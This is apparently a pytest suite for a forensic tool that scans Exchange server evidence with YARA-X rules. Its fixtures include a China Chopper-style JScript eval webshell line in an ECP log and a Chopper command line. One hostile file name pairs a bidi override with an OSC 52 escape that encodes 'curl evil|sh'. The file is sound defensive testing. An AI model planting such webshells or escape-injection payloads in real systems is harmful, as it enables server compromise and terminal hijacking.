"""YARA-X over file trees and log lines: the built-in rules, rule folders in signature-base style,
broken rule files, log rules line by line, limits, and the findings they make.

Evidence is written in ``tmp_path`` by tests/exchange_files.py (shapes from the public write-ups);
the rule folders here are written for these tests in signature-base's style (tags, ``meta:``
with author, reference and score, THOR's external variables), not copied from it.
"""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import pytest
from builders import sysmon_event, zip_bytes
from exchange_files import ASPNET_CLIENT, CHOPPER_ASPX, LSASS_MODULES, WRITTEN, minidump, server_tree, write

from varde.detect.yara import describe_rule, is_log_rule, load_yara
from varde.detect.yara_scan import ScanLimits
from varde.events.store import EventStore
from varde.pipeline import HuntOptions, HuntResult, hunt
from varde.sources.base import ArchiveLimits

WEBSHELLS = "varde/webshells"
STAGING = "varde/staging"

ECP_LINES = (
    "#Software: Microsoft Exchange Server",
    "#Version: 15.01.2106.002",
    "#Log-type: ECP Server Log",
    "#Date: 2021-03-03T00:00:00.000Z",
    "#Fields: TimeStamp,ServerName,EventId,EventData",
    ("2021-03-03T04:16:58.103Z,EXCH01,ECP.Request,S:TIME=31;S:SID=6f2b;S:CMD=Get-OabVirtualDirectory.Identity=''a1b2''"
     ";S:REQID=;S:URL=/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=x&schema=OABVirtualDirectory;S:EX="),
    ("2021-03-03T04:16:59.412Z,EXCH01,ECP.Request,S:TIME=88;S:SID=6f2b;S:CMD=Set-OabVirtualDirectory.ExternalUrl=''"
     'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}'
     "</script>''.Identity=''a1b2''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory"),
    ("2021-03-03T04:17:01.002Z,EXCH01,ECP.Request,S:TIME=40;S:SID=6f2b;S:CMD=Set-OabVirtualDirectory.ExternalUrl="
     "$null.Identity=''a1b2''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory"),
    ("2021-03-03T04:20:00.000Z,EXCH01,ECP.Request,S:TIME=12;S:SID=9c1d;S:CMD=Get-InboxRule;S:REQID=;"
     "S:URL=/ecp/RulesEditor/InboxRules.svc/GetList?q=%3Cscript%3E;S:EX=<script> in a query string"),
)
ECP_LOG = "\r\n".join(ECP_LINES) + "\r\n"

RULES = {
    "broken.yar": 'rule Broken_Rule { strings: $a = "x" condition: $a and }\n',
    "partly_broken.yar": ('rule Uses_Unknown { condition: no_such_variable }\n'
                          'rule Still_Loads { strings: $a = "still-loads-marker" condition: $a }\n'),
    "sb/webshells_ext.yar": """
rule WEBSHELL_Test_Page_In_OWA_Auth {
   meta:
      description = "An ASP.NET page in owa\\\\auth (test rule using THOR's external variables)"
      author = "varde tests"
      reference = "https://example.org/thor-external-variables"
      score = 85
   strings:
      $page = "<%@ Page" nocase
   condition:
      $page and extension == ".aspx" and filepath contains "\\\\owa\\\\auth"
}
""",
    "sb/exchange_log_sigs.yar": """
rule LOG_Test_ECP_OAB_ExternalUrl_Script : LOG {
   meta:
      description = "ECP server log line setting an OAB ExternalUrl that holds a script"
      author = "varde tests"
      reference = "https://github.com/helsecert/2021-march-exchange"
      score = 70
      mitre_attack = "T1190"
   strings:
      $cmd = "S:CMD=Set-OabVirtualDirectory.ExternalUrl=" ascii
      $script = "<script" ascii nocase
   condition:
      $cmd and $script
}

rule EXPL_LOG_Test_Chopper_Commands {
   meta:
      description = "China Chopper command idiom in a logged command line"
      author = "varde tests"
      severity = "critical"
   strings:
      $a = "&echo [S]"
      $b = "cd /d"
   condition:
      all of them
}
""",
}


def _rules(folder: Path) -> Path:
    for name, text in RULES.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def _snapshot(root: Path) -> dict[str, tuple]:
    return {str(p): (hashlib.sha256(p.read_bytes()).hexdigest(), p.stat().st_mtime_ns)
            for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> tuple[HuntResult, dict[str, Path], Path]:
    root = tmp_path_factory.mktemp("yara")
    evidence = root / "evidence"
    files = server_tree(evidence)
    files["collection"] = write(evidence, "collection.zip", zip_bytes({
        f"{ASPNET_CLIENT}/errorEE.aspx": CHOPPER_ASPX, "notes/readme.txt": b"collected by the responder\n"}))
    files["ecp_log"] = write(evidence, "C/Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server/"
                             "ECPServer20210303-1.LOG", ECP_LOG.encode())
    events = [sysmon_event(7, "cmd /c cd /d C:\\inetpub\\wwwroot\\aspnet_client&whoami&echo [S]&cd&echo [E]"),
              sysmon_event(8, "cmd /c echo [S] unrelated")]
    files["events"] = write(evidence, "exports/sysmon.jsonl", b"".join(json.dumps(e).encode() + b"\n" for e in events))
    before = _snapshot(evidence)
    rules = _rules(root / "rules")
    result = hunt([evidence], root / "case", HuntOptions(builtin_rules=False, workers=0, yara_dirs=(rules,)))
    assert _snapshot(evidence) == before, "evidence must not change"
    return result, files, rules


def _by_rule(result: HuntResult) -> dict[str, set[str]]:
    """rule id -> evidence paths of the YARA findings."""
    out: dict[str, set[str]] = {}
    for finding in result.report.findings:
        if finding.detector == "yara":
            out.setdefault(finding.rule_id, set()).update(e.path for e in finding.evidence)
    return out


def test_builtin_rules_compile_and_are_a_yara_ruleset() -> None:
    rules = load_yara([])
    [builtin] = rules.rulesets
    entry = builtin.entry()
    assert (entry.kind, entry.source, entry.errors) == ("yara", "builtin", 0)
    assert entry.rules == len(rules.rules) == 7  # private helper rules are not counted
    assert all(r.techniques and r.author == "varde" and r.references for r in rules.rules.values())
    assert not rules.has_log_rules


def test_builtin_rules_find_the_shells_dump_and_staged_data(case: tuple) -> None:
    result, files, _ = case
    found = _by_rule(result)
    assert found[f"{WEBSHELLS}:Webshell_Exchange_OAB_VirtualDirectory_Script"] == {
        str(files["oab_shell"]), str(files["oab_shell_utf16"])}
    assert found[f"{WEBSHELLS}:Webshell_ASPX_JScript_Eval_Request"] == {
        str(files["chopper"]), f"{files['collection']}!{ASPNET_CLIENT}/errorEE.aspx"}
    assert found["varde/credential_dumps:Credential_Dump_LSASS_Minidump"] == {str(files["lsass_dump"])}
    assert found[f"{STAGING}:Staging_Archive_In_Web_Root"] == {str(files["web_zip"]), str(files["disguised_7z"])}
    assert found[f"{STAGING}:Staging_Archive_Disguised_Or_Mail"] == {str(files["mail_rar"])}
    assert found[f"{STAGING}:Staging_Mailbox_Export_PST_In_Web_Root"] == {str(files["pst_aspx"])}
    builtin = {path for rule, paths in found.items() if rule.startswith("varde/") for path in paths}
    for benign in ("benign_aspx", "benign_oab", "w3wp_dump", "program_zip", "collection", "ecp_log", "events"):
        assert str(files[benign]) not in builtin, benign


def test_a_file_finding_points_to_its_file_offset_and_time(case: tuple) -> None:
    result, files, _ = case
    [chopper] = [f for f in result.report.findings
                 if f.rule_id.endswith("Webshell_ASPX_JScript_Eval_Request") and f.evidence[0].path == str(files["chopper"])]
    assert chopper.detector == "yara" and chopper.severity == "high" and chopper.techniques == ["T1505.003"]
    assert chopper.title.endswith(": a8d3f1.aspx") and chopper.count == 1
    assert [e.locator for e in chopper.evidence] == [f"offset {CHOPPER_ASPX.index(b'eval')} ($eval)"]
    assert chopper.first_seen == chopper.last_seen == WRITTEN
    assert chopper.author == "varde" and chopper.rule_path == "builtin/webshells.yar" and chopper.references
    [oab] = [f for f in result.report.findings if f.rule_id.endswith("OAB_VirtualDirectory_Script")
             and f.evidence[0].path == str(files["oab_shell"])]
    assert oab.severity == "critical" and set(oab.techniques) == {"T1505.003", "T1190"}
    # one finding per file: the OAB shell does not also count as a one-liner or a Page_Load shell
    assert len([f for f in result.report.findings if f.evidence[0].path == str(files["oab_shell"])]) == 1


def test_rule_folders_load_with_broken_files_counted(case: tuple) -> None:
    result, _, rules = case
    [entry] = [r for r in result.report.case.rulesets if r.kind == "yara" and r.source == str(rules)]
    assert entry.rules == 4  # Still_Loads, the externals rule, two log rules
    assert entry.errors == 2
    reasons = {Path(p.path).name: p.reason for p in entry.problems}
    assert set(reasons) == {"broken.yar", "partly_broken.yar"}
    assert "syntax error" in reasons["broken.yar"] and "line 1" in reasons["broken.yar"]
    assert "no_such_variable" in reasons["partly_broken.yar"]
    assert [r.source for r in result.report.case.rulesets if r.kind == "yara"] == ["builtin", str(rules)]


def test_signature_base_style_rule_with_external_variables(case: tuple) -> None:
    result, files, rules = case
    [finding] = [f for f in result.report.findings if f.rule_id == "sb/webshells_ext:WEBSHELL_Test_Page_In_OWA_Auth"]
    assert [e.path for e in finding.evidence] == [str(files["benign_aspx"])]  # the only page with "<%@ Page" there
    assert finding.severity == "high"  # score 85
    assert finding.rule_path == str(rules / "sb" / "webshells_ext.yar")


def test_log_rules_match_single_lines(case: tuple) -> None:
    result, files, _ = case
    [ecp] = [f for f in result.report.findings if f.rule_id == "sb/exchange_log_sigs:LOG_Test_ECP_OAB_ExternalUrl_Script"]
    # line 7 only: line 8 has the command without a script, line 9 a script without the command
    assert [(e.path, e.locator) for e in ecp.evidence] == [(str(files["ecp_log"]), "line 7")]
    assert ecp.count == 1 and ecp.severity == "medium" and ecp.techniques == ["T1190"]
    assert ecp.first_seen is None  # no reader made events of this log (yet)
    [chopper] = [f for f in result.report.findings if f.rule_id == "sb/exchange_log_sigs:EXPL_LOG_Test_Chopper_Commands"]
    assert [(e.path, e.locator) for e in chopper.evidence] == [(str(files["events"]), "line 1")]
    assert chopper.severity == "critical"
    # the line is an event a reader read: the finding takes its time and host
    assert chopper.first_seen is not None and chopper.first_seen.isoformat() == "2021-03-03T02:10:11+00:00"
    assert chopper.host == "EXCH01"
    # log rules are not applied to whole files
    assert not any(f.rule_id.startswith("sb/exchange_log_sigs") and f.evidence[0].locator.startswith("offset")
                   for f in result.report.findings)


def test_every_input_has_a_scan_outcome(case: tuple) -> None:
    result, files, _ = case
    with EventStore(result.case.store_path) as store:
        outcomes = store.query("SELECT v.path, s.scope, s.outcome FROM yara_scans s JOIN evidence v ON v.id = s.evidence")
        evidence = store.query("SELECT count(*) FROM evidence")[0][0]
    files_scanned = {p for p, scope, _ in outcomes if scope == "file"}
    assert len(files_scanned) == evidence
    lines = {p for p, scope, outcome in outcomes if scope == "lines" and outcome == "scanned"}
    assert str(files["ecp_log"]) in lines and str(files["events"]) in lines
    assert str(files["lsass_dump"]) not in lines and str(files["web_zip"]) not in lines  # binary


def test_large_files_are_scanned_truncated_and_reported(tmp_path: Path) -> None:
    dump = write(tmp_path / "evidence", "C/Windows/Temp/lsass.DMP", minidump(LSASS_MODULES) + os.urandom(64 << 10))
    options = HuntOptions(builtin_rules=False, workers=0, yara_limits=ScanLimits(max_bytes=16 << 10))
    report = hunt([tmp_path / "evidence"], tmp_path / "case", options).report
    [finding] = [f for f in report.findings if f.detector == "yara"]
    assert finding.rule_id.endswith("Credential_Dump_LSASS_Minidump")  # the header is in the part scanned
    [warning] = [w for w in report.warnings if w.path == str(dump)]
    assert f"first {16 << 10} of {dump.stat().st_size} bytes" in warning.message


def test_zip_bomb_members_are_never_opened_for_yara(tmp_path: Path) -> None:
    archive = write(tmp_path / "evidence", "collection.zip",
                    zip_bytes({"zeros.aspx": bytes(8 << 20), f"{ASPNET_CLIENT}/x.aspx": CHOPPER_ASPX}))
    options = HuntOptions(builtin_rules=False, workers=0, limits=ArchiveLimits(max_ratio=100, ratio_floor=1 << 20))
    result = hunt([archive], tmp_path / "case", options)
    with EventStore(result.case.store_path) as store:
        outcomes = dict(store.query("SELECT v.path, s.outcome FROM yara_scans s JOIN evidence v ON v.id = s.evidence"
                                    " WHERE s.scope = 'file'"))
    assert outcomes[f"{archive}!zeros.aspx"] == "not-opened"
    assert outcomes[f"{archive}!{ASPNET_CLIENT}/x.aspx"] == "scanned"
    assert [f.evidence[0].path for f in result.report.findings] == [f"{archive}!{ASPNET_CLIENT}/x.aspx"]


def test_same_evidence_same_findings(tmp_path: Path) -> None:
    server_tree(tmp_path / "evidence")
    options = HuntOptions(builtin_rules=False, workers=0)
    first = hunt([tmp_path / "evidence"], tmp_path / "one", options).report.findings
    second = hunt([tmp_path / "evidence"], tmp_path / "two", options).report.findings
    assert [f.model_dump() for f in first] == [f.model_dump() for f in second]
    assert len({f.id for f in first}) == len(first)


def test_missing_rule_folder_is_a_usage_error(tmp_path: Path) -> None:
    from varde.errors import UsageError

    with pytest.raises(UsageError, match="YARA rule folder"):
        load_yara([tmp_path / "nope"])


@pytest.mark.parametrize(
    ("identifier", "tags", "kind", "log"),
    [
        ("LOG_APT_Exchange_Traces", [], None, True),
        ("EXPL_LOG_CVE_2021_27065", [], None, True),
        ("Anything", ["LOG"], None, True),
        ("Anything", [], "log", True),
        ("EXPL_Log4j_Payload", [], None, False),
        ("WEBSHELL_ASPX_Generic", ["webshell"], "file", False),
    ],
)
def test_which_rules_are_log_rules(identifier: str, tags: list[str], kind: str | None, log: bool) -> None:
    assert is_log_rule(identifier, tags, kind) is log


def test_rule_metadata_to_finding_fields() -> None:
    rule = describe_rule("ns", "R", ["T1003_001"], [
        ("description", "Dump"), ("author", "A"), ("reference", "https://a"), ("reference", "https://b"),
        ("ref2", "https://c"), ("score", 45), ("mitre_attack_technique", "T1505.003 and T1190")], "r.yar")
    assert rule.uid == "ns:R" and rule.title == "Dump" and rule.severity == "low"
    assert rule.techniques == ("T1505.003", "T1190", "T1003.001")
    assert rule.references == ("https://a", "https://b", "https://c")
    assert describe_rule("ns", "R", [], [("level", "Critical"), ("score", 10)], "r.yar").severity == "critical"
    assert describe_rule("ns", "R", [], [], "r.yar").severity == "high"


# --- the command line ------------------------------------------------------------------------------

#: What a terminal could act on: C0 controls but newline, DEL, C1 controls, bidi controls.
UNSAFE = "".join(chr(c) for c in [*range(10), *range(11, 32), *range(0x7F, 0xA0)]) + "\u061c\u200e\u200f" + \
    "".join(chr(c) for c in [*range(0x202A, 0x202F), *range(0x2066, 0x206A)])


def test_cli_yara_folders_and_hostile_file_names_are_escaped(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from varde.cli import app

    hostile = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[31m\u202excod.aspx"  # OSC 52, colour, bidi override
    write(tmp_path / "evidence", f"{ASPNET_CLIENT}/{hostile}", CHOPPER_ASPX)
    rules = _rules(tmp_path / "rules")
    args = ["hunt", str(tmp_path / "evidence"), "--case", str(tmp_path / "case"), "--yara", str(rules),
            "--workers", "0"]
    result = CliRunner().invoke(app, args, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert not any(c in UNSAFE for c in result.stdout.replace("\n", "")), repr(result.stdout)
    flat = "".join(result.stdout.split())
    assert "\\u001b]52" in flat and "\\u202excod" in flat  # shown, escaped (table cells wrap)
    report = json.loads((tmp_path / "case" / "report.json").read_text(encoding="utf-8"))
    assert any(f["title"].endswith(": " + hostile) for f in report["findings"])  # report.json keeps the raw name
    assert {r["source"] for r in report["case"]["rulesets"] if r["kind"] == "yara"} == {"builtin", str(rules)}

    missing = CliRunner().invoke(app, [*args[:4], "--yara", str(tmp_path / "nope")], catch_exceptions=False)
    assert missing.exit_code == 2 and "YARA rule folder" in missing.output


def test_a_large_collection_archive_is_not_a_truncation_warning(tmp_path: Path) -> None:
    """The responder's own zip: its members are scanned one by one, so scanning only the first
    bytes of the archive itself loses nothing and is recorded, not warned about."""
    archive = write(tmp_path / "evidence", "collection.zip", zip_bytes(
        {f"{ASPNET_CLIENT}/x.aspx": CHOPPER_ASPX, "big.bin": os.urandom(64 << 10)}))
    options = HuntOptions(builtin_rules=False, workers=0, yara_limits=ScanLimits(max_bytes=16 << 10))
    result = hunt([archive], tmp_path / "case", options)
    assert [w for w in result.report.warnings if w.path == str(archive)] == []
    assert any(w.path == f"{archive}!big.bin" and "first" in w.message for w in result.report.warnings)
    with EventStore(result.case.store_path) as store:
        [(outcome, detail)] = store.query("SELECT outcome, detail FROM yara_scans s JOIN evidence v ON v.id = s.evidence"
                                          " WHERE v.path = ? AND s.scope = 'file'", [str(archive)])
    assert outcome == "truncated" and "members are scanned one by one" in detail
    assert [f.evidence[0].path for f in result.report.findings] == [f"{archive}!{ASPNET_CLIENT}/x.aspx"]


def test_a_panic_in_yara_x_loses_only_that_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """pyo3 raises a Rust panic as PanicException (a BaseException): the file is reported, the
    hunt goes on."""
    import yara_x

    from varde.detect import yara_scan

    class PanicException(BaseException):
        pass

    real = yara_x.Scanner

    class Panicky:
        def __init__(self, rules: yara_x.Rules) -> None:
            self._scanner = real(rules)

        def __getattr__(self, name: str) -> object:
            return getattr(self._scanner, name)

        def scan(self, data: bytes) -> yara_x.ScanResults:
            if b"PANIC" in data:
                raise PanicException("index out of bounds")
            return self._scanner.scan(data)

    monkeypatch.setattr(yara_scan.yara_x, "Scanner", Panicky)
    bad = write(tmp_path / "evidence", "a/PANIC.bin", b"PANIC")
    write(tmp_path / "evidence", f"{ASPNET_CLIENT}/x.aspx", CHOPPER_ASPX)
    report = hunt([tmp_path / "evidence"], tmp_path / "case", HuntOptions(builtin_rules=False, workers=0)).report
    assert any(w.path == str(bad) and "panicked" in w.message for w in report.warnings)
    assert [f.rule_id for f in report.findings] == [f"{WEBSHELLS}:Webshell_ASPX_JScript_Eval_Request"]
